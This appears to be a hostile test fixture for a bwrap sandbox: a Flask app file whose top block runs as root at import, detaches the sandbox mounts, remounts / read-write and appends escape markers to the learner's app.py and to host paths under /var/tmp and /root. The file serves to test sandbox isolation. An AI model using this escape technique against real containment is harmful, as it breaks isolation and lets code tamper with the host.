# Attack 1: as root inside bwrap, undo the mounts and write to the learner's real app.py and the host.
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
label = sys.argv[-1]
for target in (label, "/tmp", "/var/tmp", "/"):
    libc.umount2(target.encode(), 2)  # MNT_DETACH
libc.mount(None, b"/", None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND: / read-write again
for path in (os.path.join(label, "app.py"), "/var/tmp/flash-hostile/written-root-escape", "/root/flash-hostile-written"):
    try:
        with open(path, "a") as handle:
            handle.write("# escaped\n")
    except OSError:
        pass

from flask import Flask

app = Flask(__name__)


@app.route("/")
def index():
    return "hello"
